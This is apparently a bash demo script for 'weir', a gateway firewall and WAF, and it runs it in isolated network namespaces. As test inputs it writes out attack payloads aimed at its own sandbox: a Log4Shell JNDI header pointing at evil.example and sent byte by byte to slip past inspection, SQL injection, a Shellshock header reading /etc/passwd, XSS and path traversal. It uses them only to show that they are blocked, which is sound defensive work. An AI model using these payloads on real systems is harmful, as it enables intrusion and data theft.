#!/bin/bash
# SPDX-License-Identifier: BSD-3-Clause
# weir between a real client and a real server, on a fresh Debian 12 without any NIC:
#
#   deploy/quickstart.sh           installs, builds, shows what weir does, cleans up
#   deploy/quickstart.sh --keep    the same, but leaves it running and says what to try
#   deploy/quickstart.sh --stop    ends what --keep has left
#
# Everything happens in three network namespaces of its own; the host's network is not touched.
set -euo pipefail
cd "$(dirname "$0")/.."

client=weir-demo-client gateway=weir-demo-gateway server=weir-demo-server
home=/run/weir-demo
build=${WEIR_BUILD:-$PWD/build}
weir=$build/app/weir/weir
weirctl="$build/app/weirctl/weirctl --socket $home/weir.sock"
keep=false
failed=0
export PATH=$PATH:/usr/sbin:/sbin LC_ALL=C.UTF-8

# ---- words ----

say() {
	printf '\n\033[1m%s\033[0m\n' "$*" | if [ -t 1 ]; then cat; else sed 's/\x1b\[[0-9]*m//g'; fi
}

show() {
	sed 's/^/    /'
}

# expect WHAT COMMAND...: says whether it was so
expect() {
	local what=$1
	shift
	if "$@"; then
		echo "  ok      $what"
	else
		echo "  FAILED  $what"
		failed=1
	fi
}

die() {
	echo "quickstart: $*" >&2
	exit 1
}

# ---- taking down ----

# Only what runs in the namespaces that this script made.
stop_all() {
	local name pids
	for name in $client $server $gateway; do
		[ -e "/run/netns/$name" ] || continue
		pids=$(ip netns pids "$name")
		# shellcheck disable=SC2086 # words
		[ -z "$pids" ] || kill $pids 2>/dev/null || :
	done
	for name in $client $server $gateway; do
		[ -e "/run/netns/$name" ] || continue
		for _ in $(seq 50); do
			[ -n "$(ip netns pids "$name")" ] || break
			sleep 0.1
		done
		pids=$(ip netns pids "$name")
		# shellcheck disable=SC2086
		[ -z "$pids" ] || kill -KILL $pids 2>/dev/null || :
		ip netns del "$name"
	done
	rm -rf "$home"
}

at_end() {
	local code=$?
	trap - EXIT
	if ! $keep || [ $code -ne 0 ]; then
		stop_all
	fi
	if [ $code -ne 0 ]; then
		printf '\nFAIL\n'
	fi
	exit $code
}

# ---- building ----

install_and_build() {
	say "Packages and build (a few minutes on a fresh machine)"
	timeout 900 deploy/packages.sh build run quickstart
	[ -f "$build/build.ninja" ] || timeout 120 meson setup "$build" >/dev/null
	if ! timeout 1200 ninja -C "$build" app/weir/weir app/weirctl/weirctl >"$build/ninja.log" 2>&1; then
		tail -40 "$build/ninja.log"
		die "the build failed"
	fi
	tail -1 "$build/ninja.log" | show
}

# ---- the stage ----

in_client() {
	timeout 30 ip netns exec $client "$@"
}

in_server() {
	ip netns exec $server "$@"
}

make_namespaces() {
	local end near host
	for end in $client $gateway $server; do
		ip netns add "$end"
		ip -n "$end" link set lo up
	done
	ip netns exec $gateway sysctl -qw net.ipv6.conf.default.disable_ipv6=1
	host=1
	for end in $client $server; do
		near=g$((host - 1))
		ip -n $gateway link add $near type veth peer name eth0 netns "$end"
		# veth leaves checksums to hardware that is not there; weir cannot repair that by default.
		for feature in tx rx sg tso gso gro; do
			ip netns exec "$end" ethtool -K eth0 $feature off >/dev/null 2>&1 || :
			ip netns exec $gateway ethtool -K $near $feature off >/dev/null 2>&1 || :
		done
		ip -n $gateway link set $near promisc on up
		ip -n "$end" addr add "10.77.0.$host/24" dev eth0
		ip -n "$end" addr add "fd77::$host/64" dev eth0 nodad
		ip -n "$end" link set eth0 up
		host=$((host + 1))
	done
	ip -n $server addr add 10.77.0.66/24 dev eth0
}

start_server() {
	mkdir -p $home/www
	head -c 16777216 /dev/urandom >$home/www/file
	echo "you should never read this" >$home/www/index.html
	cat >$home/nginx.conf <<-END
		daemon off;
		user root;
		worker_processes 1;
		pid $home/nginx.pid;
		error_log $home/nginx.log;
		events {}
		http {
			access_log off;
			default_type application/octet-stream;
			types { text/html html; }
			client_body_temp_path $home/t1;
			proxy_temp_path $home/t2;
			fastcgi_temp_path $home/t3;
			uwsgi_temp_path $home/t4;
			scgi_temp_path $home/t5;
			server {
				listen 10.77.0.2:80;
				listen [fd77::2]:80;
				listen 10.77.0.2:443; # in the clear: weir ends the TLS of its clients
				listen [fd77::2]:443;
				listen 10.77.0.66:389;
				root $home/www;
			}
		}
	END
	in_server setsid nginx -e $home/nginx.log -c $home/nginx.conf </dev/null >/dev/null 2>&1 &
	for _ in $(seq 50); do
		[ ! -s $home/nginx.pid ] || return 0
		sleep 0.1
	done
	cat $home/nginx.log
	die "nginx did not start"
}

# Keys must be their owner's alone, or weir does not load them.
make_certificate() {
	(umask 077 && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 \
		-subj /CN=mirror.example -addext subjectAltName=DNS:mirror.example \
		-keyout $home/mirror.key -out $home/mirror.pem 2>/dev/null)
}

write_configuration() {
	local cpu
	cpu=$(taskset -cp $$ | sed 's/.*[ ,-]//') # the last that this process may use
	mkdir -p $home/policy.d
	cat >$home/weir.yaml <<-END
		workers: [$cpu]
		memory: { connections: 10000 }
		ports:
		  - { name: inside, device: "iface:g0", driver: $1 }
		  - { name: outside, device: "iface:g1", driver: $1 }
		wires: [ { name: w0, ports: [ inside, outside ] } ]
		policy: [ policy.d ]
		rules: { stream: [ $PWD/rules/stream ] }
		log: { events: events.json }
		control: { socket: weir.sock }
	END
	cat >$home/policy.d/egress.yaml <<-END
		kind: Group
		metadata: { name: workloads }
		spec: { cidrs: [ 10.77.0.1/32, "fd77::1/128" ] }
		---
		kind: EgressPolicy
		metadata: { name: only-the-mirror }
		spec:
		  from: workloads
		  inspect: true        # weir carries these connections itself and holds their bytes against rules/stream
		  allow:
		    - { name: mirror, to: [ 10.77.0.2/32, "fd77::2/128" ], protocol: tcp, ports: [ 80, 443, 8080 ] }
	END
	cat >$home/policy.d/web.yaml <<-END
		kind: Service
		metadata: { name: mirror }
		spec: { addresses: [ 10.77.0.2/32, "fd77::2/128" ], ports: 80, protocol: http }
		---
		kind: Service
		metadata: { name: mirror-tls }
		spec:
		  addresses: [ 10.77.0.2/32, "fd77::2/128" ]
		  ports: 443
		  protocol: http
		  tls:
		    mode: terminate
		    certificates: [ { certificate: $home/mirror.pem, key: $home/mirror.key } ]
		    upstream: { mode: plain }
		---
		kind: ThreatPolicy       # the OWASP Core Rule Set of Debian, and weir's own rules for Log4Shell and its like
		metadata: { name: core-rules }
		spec:
		  services: [ mirror, mirror-tls ]
		  mode: enforce
		  paranoia: 1
		  rules: { before: [ $PWD/rules/waf/log4shell.conf, $PWD/rules/waf/shellshock.conf ] }
	END
}

# Whether weir is up with the driver.
start_weir() {
	local pid
	write_configuration "$1"
	ip netns exec $gateway setsid "$weir" run -c $home/weir.yaml >$home/weir.log 2>&1 </dev/null &
	pid=$!
	for _ in $(seq 300); do
		kill -0 $pid 2>/dev/null || return 1
		if [ -S $home/weir.sock ] && $weirctl status >/dev/null 2>&1; then
			return 0
		fi
		sleep 0.1
	done
	kill $pid
	return 1
}

start_some_weir() {
	driver=af_xdp
	start_weir $driver && return
	show <$home/weir.log
	echo "  AF_XDP does not work here; AF_PACKET, then."
	driver=af_packet
	start_weir $driver && return
	show <$home/weir.log
	die "weir did not start"
}

# ---- the play ----

show_allowed() {
	local host sum
	say "1. What the policy allows: a download of 16 MiB through weir"
	sum=$(sha256sum <$home/www/file)
	for host in 10.77.0.2 '[fd77::2]'; do
		echo "  client$ curl http://$host/file"
		in_client curl -sS --max-time 20 -o $home/got -w '    %{size_download} bytes in %{time_total} s\n' \
			"http://$host/file" || :
		expect "its checksum is right" [ "$sum" = "$(sha256sum <$home/got)" ]
		rm -f $home/got
	done
}

show_refused() {
	local code=0
	say "2. What it does not allow: the client calls a host that no policy sanctions"
	in_server curl -sS --max-time 5 -o /dev/null http://10.77.0.66:389/ &&
		echo "  (10.77.0.66 port 389 does answer: asked from its own side of the wire)"
	echo "  client$ curl http://10.77.0.66:389/"
	in_client curl -sS --max-time 5 -w '    after %{time_total} s\n' http://10.77.0.66:389/ 2>&1 | show ||
		code=$?
	expect "refused at once, as a closed port is" [ $code -eq 7 ]
	sleep 0.5
	echo "  weirctl events"
	$weirctl events -n 5 | show
	expect "the decision record names the policy" \
		grep -q '"dest_ip":"10.77.0.66".*"policy":"only-the-mirror"' $home/events.json
	echo "  weirctl explain --from 10.77.0.1 --to 10.77.0.66 --proto tcp --port 389"
	$weirctl explain --from 10.77.0.1 --to 10.77.0.66 --proto tcp --port 389 | show
}

# A byte a segment, as an attacker would who hopes that nobody puts them together.
sender='
import socket, sys, time
s = socket.create_connection(("10.77.0.2", 8080), 5)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
try:
    for byte in sys.argv[1].encode():
        s.send(bytes([byte]))
        time.sleep(0.002)
    s.shutdown(socket.SHUT_WR)
    s.recv(1)
    print("sent")
except OSError as why:
    print(why.strerror)
'
listener='
import socket, sys
l = socket.create_server(("10.77.0.2", 8080))
for path in sys.argv[1:]:
    c, _ = l.accept()
    with open(path, "wb") as heard:
        try:
            while data := c.recv(4096):
                heard.write(data)
        except OSError:
            pass
    c.close()
'

show_jndi() {
	# shellcheck disable=SC2016 # it is meant so
	local header='X-Api-Version: ${jndi:ldap://evil.example/a}'
	say "3. Log4Shell in a connection that is allowed: a byte a segment, so that no packet has the string"
	in_server timeout 20 python3 -c "$listener" $home/heard1 $home/heard2 </dev/null >/dev/null 2>&1 &
	for _ in $(seq 50); do
		! in_server ss -Hltn 'sport = :8080' | grep -q . || break
		sleep 0.1
	done
	echo "  client: X-Api-Version: 2"
	in_client python3 -c "$sender" "X-Api-Version: 2" | show
	echo "  client: $header"
	in_client python3 -c "$sender" "$header" | show
	wait $! || :
	echo "  the server's application read"
	printf '%s\n' "$(cat $home/heard1)" "$(cat $home/heard2)" | show
	expect "what is harmless arrived" [ "$(cat $home/heard1)" = "X-Api-Version: 2" ]
	expect "the attack did not" sh -c "! grep -q 'jndi:ldap:' $home/heard2"
	sleep 0.5
	grep -m1 '"event_type":"alert"' $home/events.json | show
	expect "the alert names it" grep -q '"signature":"Log4Shell: JNDI lookup"' $home/events.json
}

# The answer's status line, and what the client was told.
ask() {
	echo "  client$ curl $*"
	in_client curl -sS --max-time 5 -o $home/page -w '%{http_code}' "$@" >$home/status 2>&1 || :
	echo "    $(cat $home/status)"
}

show_waf() {
	say "4. Requests to a Service are judged by the OWASP Core Rule Set before the server sees anything of them"
	ask http://10.77.0.2/index.html
	expect "an honest request is answered" [ "$(cat $home/status)" = 200 ]
	ask "http://10.77.0.2/index.html?id=1%27%20or%20%271%27=%271"
	expect "SQL injection is refused" [ "$(cat $home/status)" = 403 ]
	sed 's/<[^>]*>//g; /^$/d' $home/page | show
	ask -A '() { :; }; /bin/cat /etc/passwd' http://10.77.0.2/index.html
	expect "Shellshock in a header is refused" [ "$(cat $home/status)" = 403 ]
	ask -d '{"q":"<script>alert(1)</script>"}' -H 'Content-Type: application/json' http://10.77.0.2/index.html
	expect "and a script in JSON" [ "$(cat $home/status)" = 403 ]
	sleep 0.5
	echo "  weirctl tx --count 4"
	$weirctl tx --count 4 | show
	echo "  weirctl rules top --by hits --count 5"
	$weirctl rules top --by hits --count 5 | show
	expect "the transaction's record has the rule" grep -q '"event_type":"http".*942100' $home/events.json
}

show_tls() {
	local version site=https://mirror.example/index.html attack="id=1%27%20or%20%271%27=%271"
	local to=(--cacert "$home/mirror.pem" --resolve 'mirror.example:443:10.77.0.2,[fd77::2]')
	say "5. The same by TLS and HTTP/2, which weir ends: the server is spoken to in HTTP/1.1, in the clear"
	echo "  client$ curl --http2 $site"
	in_client curl -sS --max-time 5 "${to[@]}" --http2 -o /dev/null \
		-w '    %{http_code}, HTTP/%{http_version}\n' $site | tee $home/status
	expect "an honest request is answered" grep -q '200, HTTP/2' $home/status
	for version in 1.1 2; do
		echo "  client$ curl --http$version '$site?$attack'"
		in_client curl -sS --max-time 5 "${to[@]}" --http$version -o $home/page \
			-w '    %{http_code}, HTTP/%{http_version}\n' "$site?$attack" | tee $home/status
		expect "SQL injection is refused" grep -q '403, HTTP/' $home/status
	done
	sleep 0.5
	echo "  weirctl certs"
	$weirctl certs | show
	grep -m1 '"event_type":"http".*"HTTP/2' $home/events.json | show
	expect "the record has the handshake" grep -q '"event_type":"http".*"alpn":"h2"' $home/events.json
}

show_record() {
	say "6. The refusal as others read it, one JSON line (eve.json names) in events.json"
	grep -m1 '"dest_ip":"10.77.0.66"' $home/events.json | show
}

show_counters() {
	say "7. What was counted"
	echo "  weirctl drops"
	$weirctl drops | show
	echo "  curl --unix-socket weir.sock http://weir/metrics"
	curl -sS --max-time 5 --unix-socket $home/weir.sock http://weir/metrics |
		grep -E '^weir_(drops|rx|tx|flows|rst)' | grep -v ' 0$' | show
	$weirctl drops --json >$home/drops.json
	expect "the refusal is counted" grep -q '"policy_deny"' $home/drops.json
}

say_what_to_try() {
	cat <<-END

		It is still running. To try:

		  ip netns exec $client curl -sSI http://10.77.0.2/        # allowed
		  ip netns exec $client curl -sS http://10.77.0.66:389/    # refused
		  ip netns exec $client curl -sS 'http://10.77.0.2/?f=../../etc/passwd'   # 403
		  ip netns exec $client ping 10.77.0.2                     # refused, too: nothing allows it
		  $weirctl status
		  $weirctl flows
		  $weirctl trace --any 10.77.0.1 --count 20
		  \$EDITOR $home/policy.d/egress.yaml && $weirctl reload
		  tail -f $home/events.json
		  ip netns exec $gateway $weir doctor -c $home/weir.yaml

		  deploy/quickstart.sh --stop
	END
}

# ---- all of it ----

case ${1-} in
'') ;;
--keep) keep=true ;;
--stop)
	stop_all
	echo "stopped"
	exit 0
	;;
*)
	sed -n '3,9s/^# \{0,1\}//p' "$0"
	exit 2
	;;
esac
[ "$(id -u)" -eq 0 ] || die "root is needed, for network namespaces"
trap at_end EXIT
trap 'exit 130' INT TERM HUP

install_and_build
stop_all # an earlier --keep
mkdir -p $home
make_namespaces
make_certificate
start_server
start_some_weir
say "weir stands between client (10.77.0.1) and server (10.77.0.2), driven by $driver"
$weirctl status | show
show_allowed
show_refused
show_jndi
show_waf
show_tls
show_record
show_counters

if [ $failed -ne 0 ]; then
	exit 1
fi
! $keep || say_what_to_try
$keep || stop_all
printf '\nPASS\n'
